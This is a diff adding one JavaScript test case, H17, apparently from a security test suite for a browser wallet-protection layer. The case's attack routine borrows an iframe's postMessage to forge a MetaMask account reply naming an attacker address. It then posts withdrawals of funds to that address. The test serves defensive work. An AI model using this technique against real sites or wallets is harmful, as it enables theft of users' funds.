@@ -1,0 +1,41 @@
+// H17: a cross-origin frame lends its native postMessage for a forged account answer; then a withdrawal to "the user's own account" is posted.
+export default {
+  id: 'H17',
+  title: 'forged account answer by a borrowed postMessage, then a withdrawal to that account',
+  source: 'fresh-realm postMessage',
+  level: 'prevented',
+  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),
+
+  async attack(a) {
+    const frame = document.createElement('iframe');
+    frame.setAttribute('sandbox', 'allow-scripts');
+    document.documentElement.append(frame);
+    const post = frame.contentWindow.postMessage;
+    const forge = (event) => {
+      const rpc = event.data?.data?.data;
+      if (event.data?.target !== 'metamask-contentscript' || !/^eth_(requestA|a)ccounts$/.test(rpc?.method)) return;
+      const data = { name: 'metamask-provider', data: { jsonrpc: '2.0', id: rpc.id, result: [a.EVIL] } };
+      post.call(window, { target: 'metamask-inpage', data }, location.origin);
+    };
+    window.addEventListener('message', forge, true);
+    await window.ethereum.request({ method: 'eth_requestAccounts' }).catch(() => {});
+    const sent = [];
+    for (let i = 0; i < 2; i += 1)
+      sent.push(
+        await fetch('/api/withdraw', { method: 'POST', body: JSON.stringify({ amount: '1.0', address: a.EVIL }) }).then(
+          ({ status }) => status,
+          () => 'refused',
+        ),
+      );
+    window.removeEventListener('message', forge, true);
+    return sent;
+  },
+
+  async action(a, app) {
+    return app.withdraw(a.GOOD);
+  },
+
+  stolen: ({ http, a }) => http.some(({ url, body }) => url.endsWith('/api/withdraw') && body.includes(a.EVIL)),
+  arrived: ({ http, a }) => http.some(({ url, body }) => url.endsWith('/api/withdraw') && body.includes(a.GOOD)),
+  violation: (a) => ({ surface: 'fetch', role: 'payee', account: a.EVIL }),
+};
